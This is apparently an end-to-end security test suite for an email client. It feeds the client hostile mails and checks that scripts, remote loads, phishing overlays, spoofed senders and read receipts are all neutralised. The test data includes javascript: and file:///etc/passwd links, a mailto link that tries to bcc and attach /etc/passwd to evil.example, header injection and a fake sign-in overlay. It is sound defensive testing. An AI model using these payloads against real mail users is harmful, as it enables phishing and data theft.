import { expect, test, type FrameLocator, type Page } from '@playwright/test'
import { keepOpened, mailIn } from './hands'
import { leakingBodies, runningBodies } from './hostile-mails'
import {
  ask,
  conversation,
  leave,
  mail,
  newProfile,
  row,
  seed,
  startPostern,
  startTeam,
  synced,
  type Desk,
  type Team,
} from './harness'

/** Canaries in one conversation: unread messages open all at once, so each counts. */
const together = 24
let team: Team
let desk: Desk
let page: Page
let batches = 0
const said: string[] = []

const encoded = (html: string) => ({
  headers: ['Content-Transfer-Encoding: base64'],
  html: Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\r\n'),
})
const slot = (): ReturnType<Page['locator']> => conversation(page).locator('.mail-slot[data-state=shown]')
const shownMail = (n = 0): FrameLocator => mailIn(slot().nth(n))
let opened: () => Promise<string[]>

async function open(subject: string): Promise<void> {
  await row(page, new RegExp(`, ${subject}$`)).click()
  await expect(conversation(page).getByRole('heading', { level: 2, name: subject })).toBeVisible()
  await expect(conversation(page).locator('.msg-body').first()).toBeVisible()
  await expect(conversation(page).locator('.mail-slot[data-state=waiting]')).toHaveCount(0)
}

const links = `<p><a href="https://shop.example/order?id=1">plain</a> <a href="https://evil.example/">https://bank.example/login</a> <a href="https://bank.example@evil.example/">at</a>
  <a href="https://xn--80ak6aa92e.com/">idn</a> <a href="http://192.0.2.7/x">number</a> ${['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java&#09;script:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'smb://host/share', 'vbscript:x', 'ms-word:ofe|u|http://x', 'mailbox:///x', 'cid:x', 'postern://app/index.html', 'blob:x', '\\\\host\\share', 'about:blank', 'chrome://gpu', 'tel:+491234'].map((href, i) => `<a class="never" href="${href}">never${i}</a>`).join(' ')}</p>`
const overlay = `<p style="background:orange;font-size:40px">Inside</p><div style="position:fixed;inset:-500px;background:red;z-index:2147483647">Your session ended. Sign in</div><div style="position:absolute;left:-400px;top:-300px;width:3000px;height:200px;background:lime">A</div>
  <div style="margin:0 -900px;background:blue;height:80px;position:relative;transform:translate(-600px,-400px) scale(4);outline:900px solid magenta;box-shadow:0 0 0 2000px yellow">B</div><dialog open style="position:fixed;inset:0">C</dialog><style>html,body{position:fixed;inset:-1000px;width:400vw;cursor:none}::backdrop{background:red}</style>`
const mailto =
  'mailto:a@one.example,b@two.example?cc=c@three.example&bcc=spy@evil.example&from=boss@evil.example&attach=/etc/passwd&attachment=/etc/shadow&reply-to=x@evil.example&subject=Hello%0D%0ABcc:spy2@evil.example&body=Line%201%0D%0ALine%202&x-header=1'
const hidden = `<p>Seen by all.</p><p style="display:none">HIDDEN-none</p><p style="visibility:hidden">HIDDEN-visibility</p><p style="font-size:0">HIDDEN-size</p><p style="color:#fff;background:#fff">HIDDEN-white</p><p style="opacity:0">HIDDEN-opacity</p><div style="height:0;overflow:hidden">HIDDEN-height</div>
  <p style="position:absolute;left:-9999px">HIDDEN-left</p><p hidden>HIDDEN-attribute</p><p style="text-indent:-9999px">HIDDEN-indent</p><!-- HIDDEN-comment --><style>.h{display:none}</style><p class="h">HIDDEN-class</p><template>HIDDEN-template</template><details><summary>More</summary>HIDDEN-details</details><p>Also seen.<blockquote>never closed`

test.beforeAll(async () => {
  team = await startTeam(['help'])
  const mails: { raw: string }[] = []
  runningBodies.forEach((body, i) => {
    const first = `batch${Math.floor(i / together)}@canary.example`
    const isFirst = i % together === 0
    if (isFirst) batches += 1
    mails.push({
      raw: mail({
        subject: `Canaries ${Math.floor(i / together)}`,
        from: `Canary ${i} <c${i}@canary.example>`,
        ...(isFirst ? { id: first } : { inReplyTo: first }),
        ...encoded(`${body}<p>end ${i}</p>`),
      }),
    })
  })
  leakingBodies('leak.example').forEach((body, i) =>
    mails.push({
      raw: mail({
        subject: 'Leaks',
        ...(i === 0 ? { id: 'leaks@canary.example' } : { inReplyTo: 'leaks@canary.example' }),
        ...encoded(body),
      }),
    }),
  )
  for (const [subject, html] of [
    ['Links to follow', links],
    ['Imitates the window', overlay],
    ['Writes for you', `<p>Please <a href="${mailto.replaceAll('&', '&amp;')}">write</a></p>`],
    ['Half of it hidden', hidden],
  ] as const)
    mails.push({ raw: mail({ subject, from: `Eve <eve@${subject.length}.example>`, html }) })
  const receipts = [
    'Disposition-Notification-To: spy@evil.example',
    'Return-Receipt-To: spy@evil.example',
    'X-Confirm-Reading-To: spy@evil.example',
    'Read-Receipt-To: spy@evil.example',
  ]
  mails.push({
    raw: mail({
      subject: 'Tell me that you read it',
      from: 'Nosy <nosy@shop.example>',
      headers: receipts,
      text: 'Please confirm.',
    }),
  })
  mails.push({
    raw: mail({
      subject: 'Spoofed name',
      from: '"ceo@northwindbikes.example" <mallory@evil.example>',
      text: 'Pay this.',
    }),
  })
  mails.push({
    raw: mail({
      subject: 'Spoofed with marks',
      from: '=?utf-8?B?4oCuZWxwbWF4ZS5za25hYkBmZW8=?= <mallory2@evil.example>',
      text: 'Pay that.',
    }),
  })
  mails.push({
    raw: mail({
      subject: 'Two senders',
      from: 'Spoofed Name <spoofed@bank.example> <legit@evil.example>',
      text: 'Hm.',
    }),
  })
  seed(team, 'help', mails)
  desk = await startPostern({ profile: newProfile(), provision: team.provision, size: { width: 1280, height: 800 } })
  page = desk.page
  page.on('console', (message) => said.push(message.text()))
  page.on('dialog', (dialog) => {
    said.push('CANARY dialog')
    void dialog.dismiss()
  })
  await page.addInitScript(() => {
    for (const name of ['alert', 'confirm', 'prompt']) Reflect.set(window, name, () => console.log('CANARY'))
  })
  opened = await keepOpened(desk.app)
  await synced(page, 60_000)
  // Compact rows: all conversations are in the list without scrolling.
  await ask(page, 'settings.set', { density: 'compact' })
})
test.afterAll(async () => {
  await leave(desk, team)
})

/** Runs in a frame: elements and attributes that could run, load or submit something. */
function countDanger(): number {
  const elements = document.querySelectorAll(
    'script:not([src="/assets/mail-frame.js"]):not([type=module]), svg, math, object, embed, form, input, meta[http-equiv=refresh], link[rel=stylesheet]:not([crossorigin]), base',
  )
  const attributes = [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes])
  return (
    elements.length +
    attributes.filter(
      (a) => /^on|^(?:javascript|vbscript):/i.test(a.name) || /^\s*(?:javascript|vbscript):/i.test(a.value),
    ).length
  )
}

test('no script of a mail runs, in no frame, and the window stays untouched (R11)', async () => {
  const url = page.url()
  expect(batches).toBeGreaterThan(0)
  let frames = 0
  for (let n = 0; n < batches; n++) {
    await open(`Canaries ${n}`)
    frames += await slot().count()
    // A frame of the conversation before may go while it is asked; then all are asked again.
    await expect(async () => {
      const danger = await Promise.all(
        page
          .frames()
          .slice(1)
          .map((frame) => frame.evaluate(countDanger)),
      )
      expect(
        danger.reduce((a, b) => a + b, 0),
        `in batch ${n}`,
      ).toBe(0)
    }).toPass({ timeout: 15_000 })
  }
  expect(frames).toBeGreaterThan(batches)
  expect(said.filter((text) => text.includes('CANARY'))).toEqual([])
  expect(page.url()).toBe(url)
  for (const frame of page.frames())
    expect(frame.url()).toMatch(
      /^(postern:\/\/app\/index\.html|postern-mail:\/\/frame\/mail-frame\.html|about:srcdoc)$/,
    )
  expect(desk.app.windows()).toHaveLength(1)
})

test('a script can be seen to run where one may: the canary works (R11)', async () => {
  await open('Canaries 0')
  await page.frames()[1]?.evaluate("console.log('CANARY control')")
  await expect.poll(() => said.includes('CANARY control')).toBe(true)
})

test('no reference to another host stands in a shown mail, so nothing can be asked for (R12)', async () => {
  await open('Leaks')
  expect(await slot().count()).toBeGreaterThan(20)
  for (const frame of page.frames().slice(1)) {
    const requests = await frame.evaluate(() =>
      performance
        .getEntriesByType('resource')
        .map((entry) => entry.name)
        .filter((name) => name.includes('leak.example')),
    )
    expect(requests).toEqual([])
    expect(await frame.evaluate(() => document.documentElement.outerHTML)).not.toContain('leak.example')
  }
})

test('a mail that imitates the window paints nothing outside its box (R15)', async () => {
  await open('Imitates the window')
  await page.mouse.move(0, 0)
  const mask = [conversation(page).locator('.mail-slot'), page.locator('time'), page.getByRole('status')]
  const before = await slot().screenshot()
  await expect(row(page, /^Unread.*Imitates/)).toHaveCount(0)
  const picture = async (): Promise<Buffer> => page.screenshot({ mask, caret: 'hide' })
  const show = async (on: boolean): Promise<void> =>
    shownMail()
      .locator('body')
      .evaluate((body, visible) => {
        for (const el of [body, ...body.querySelectorAll('*')])
          if (el instanceof HTMLElement) el.style.visibility = visible ? '' : 'hidden'
      }, on)
  await show(false)
  expect((await slot().screenshot()).equals(before), 'the mail paints something inside').toBe(false)
  // With, without and with the mail: where the first and the last agree, nothing else moved meanwhile (a fading scrollbar, a count).
  await expect
    .poll(
      async () => {
        await show(true)
        const one = await picture()
        await show(false)
        const without = await picture()
        await show(true)
        return one.equals(await picture()) ? one.equals(without) : 'something else moved'
      },
      { message: 'and nothing outside' },
    )
    .toBe(true)
})

test('a link opens only when clicked, only http, https and mailto, and deceiving ones ask first (R16)', async () => {
  await open('Links to follow')
  expect(await opened()).toEqual([])
  const link = (name: string) => shownMail().getByText(name, { exact: true })
  await link('plain').hover()
  await expect(conversation(page).getByText('https://shop.example/order?id=1')).toBeVisible()
  await link('plain').click()
  await expect.poll(opened).toEqual(['https://shop.example/order?id=1'])
  for (const [name, real] of [
    ['https://bank.example/login', 'evil.example'],
    ['at', 'evil.example'],
    ['idn', 'xn--80ak6aa92e.com'],
    ['number', '192.0.2.7'],
  ] as const) {
    await link(name).click()
    const dialog = page.getByRole('dialog', { name: 'Open this link?' })
    await expect(dialog.locator('b')).toHaveText(real)
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    await expect(dialog).toHaveCount(0)
  }
  const never = shownMail().getByText(/^never\d+$/)
  expect(await never.count()).toBe(16)
  for (const one of await never.all()) {
    await one.click()
    await one.click({ button: 'middle' })
  }
  await expect(page.getByRole('dialog')).toHaveCount(0)
  for (const url of [
    'javascript:alert(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    'smb://host/share',
    'vbscript:x',
    'ms-word:x',
    'cid:x',
    'tel:1',
    ' javascript:x',
    'https:',
    'postern://app/',
  ])
    expect(await ask(page, 'app.openLink', { url }), url).toMatchObject({ ok: false })
  expect(await opened()).toEqual(['https://shop.example/order?id=1'])
  await link('https://bank.example/login').click()
  await page.getByRole('dialog').getByRole('button', { name: 'Open evil.example' }).click()
  await expect.poll(opened).toEqual(['https://shop.example/order?id=1', 'https://evil.example/'])
})

test('a mailto link gives recipients, subject and text, nothing else (R17)', async () => {
  await open('Writes for you')
  await shownMail().getByText('write', { exact: true }).click()
  const writing = page.getByRole('region', { name: 'New message' })
  await expect(writing.getByRole('textbox', { name: 'Subject' })).toHaveValue('Hello Bcc:spy2@evil.example')
  for (const address of ['a@one.example', 'b@two.example', 'c@three.example'])
    await expect(writing.getByRole('button', { name: `Remove ${address}` })).toHaveCount(1)
  await expect(writing.getByRole('button', { name: /^Remove / })).toHaveCount(3)
  await expect(writing.getByRole('textbox', { name: 'Message' })).toContainText(/Line 1\s*Line 2/)
  await expect(writing.getByRole('combobox', { name: 'Bcc' })).toHaveCount(0)
  await expect(writing).not.toContainText('evil.example')
  await expect(writing.getByRole('group', { name: 'Attached files' })).toHaveCount(0)
  await writing.getByRole('button', { name: 'Discard draft' }).click()
})

test('a reply quotes nothing that could not be seen (R19)', async () => {
  await open('Half of it hidden')
  const composer = page.getByRole('region', { name: 'Composer' })
  await composer.getByRole('textbox', { name: 'Reply' }).pressSequentially('An answer')
  await composer.getByRole('button', { name: 'Show the quoted message' }).click()
  const quoted = composer.getByRole('region', { name: 'Quoted message' })
  await expect(quoted).toContainText('Seen by all.')
  await expect(quoted).toContainText('Also seen.')
  await expect(quoted).not.toContainText('HIDDEN')
  await composer.getByRole('button', { name: 'Discard draft' }).click()
})

test('a name never stands in the place of another address (R20)', async () => {
  for (const [subject, address] of [
    ['Spoofed name', 'mallory@evil.example'],
    ['Spoofed with marks', 'mallory2@evil.example'],
    ['Two senders', 'legit@evil.example'],
  ] as const) {
    await open(subject)
    await expect(
      conversation(page).getByText(/The name does not fit the address\. This was really sent from/),
    ).toContainText(address)
  }
})

test('no receipt leaves when a mail that asks for one is read and answered (R18)', async () => {
  await ask(page, 'settings.set', { undoSeconds: 0 })
  await open('Tell me that you read it')
  await page
    .getByRole('region', { name: 'Composer' })
    .getByRole('textbox', { name: 'Reply' })
    .pressSequentially('I read it when I want.')
  await page.getByRole('button', { name: 'Send and close' }).click()
  const [only, ...rest] = await team.postfix.waitForDeliveries(1)
  expect(only?.recipients).toEqual(['nosy@shop.example'])
  expect(rest).toEqual([])
  expect(only?.text).not.toMatch(/disposition-notification|message\/delivery-status|evil\.example/i)
})
